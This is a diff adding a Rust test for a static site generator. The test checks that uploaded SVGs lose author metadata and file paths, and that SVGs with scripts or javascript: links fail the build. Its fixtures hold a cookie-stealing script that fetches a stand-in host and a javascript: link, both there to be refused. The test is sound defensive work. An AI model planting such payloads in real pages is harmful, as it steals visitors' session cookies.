@@ -184,6 +184,42 @@ fn tiff_and_heic_are_refused() {
         .stderr_contains("JPEG, PNG or WebP");
 }
 
+#[test]
+fn svg_with_a_script_is_refused_and_its_metadata_dropped_whatever_its_name() {
+    let mut site = SiteTest::fixture("basic");
+    // Inkscape's editor data keeps the author's file paths; a comment can say anything
+    let drawing = "<?xml version=\"1.0\"?>\n<!-- Olena's front-line sketch -->\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" inkscape:export-filename=\"/home/olena/bakhmut.png\" viewBox=\"0 0 10 10\"><metadata>Olena K., Bakhmut</metadata><path d=\"M0 0h10\"/></svg>\n";
+    site.file("static/map.svg", drawing);
+    site.file("static/sketch.png", drawing);
+    site.build().success();
+    for out in ["output/map.svg", "output/sketch.png"] {
+        let published = site.read(out);
+        assert!(published.contains("<path d=\"M0 0h10\"/>"), "{published}");
+        for gone in ["Olena", "/home/", "inkscape", "<!--"] {
+            assert!(
+                !published.contains(gone),
+                "{out} still has {gone}: {published}"
+            );
+        }
+    }
+    // a script, under any name, fails the build at its line and publishes nothing new
+    site.file(
+        "content/2023/bakhmut-encirclement/chart",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"1\" height=\"1\"/>\n  <script>fetch('https://x.example/'+document.cookie)</script>\n</svg>\n",
+    );
+    dispatch_showing(&mut site, "chart");
+    site.file(
+        "static/map.svg",
+        "<svg><a href=\"javascript:alert(1)\"/></svg>",
+    );
+    site.build()
+        .failure()
+        .stderr_contains("content/2023/bakhmut-encirclement/chart: error: this SVG contains a <script> element (line 3)")
+        .stderr_contains("static/map.svg: error: this SVG contains a link that leaves the file")
+        .stderr_contains("export the drawing as PNG");
+    assert!(!site.read("output/map.svg").contains("javascript"));
+}
+
 /// Makes the bakhmut dispatch show the image `name` from its bundle.
 fn dispatch_showing(site: &mut SiteTest, name: &str) {
     site.file(
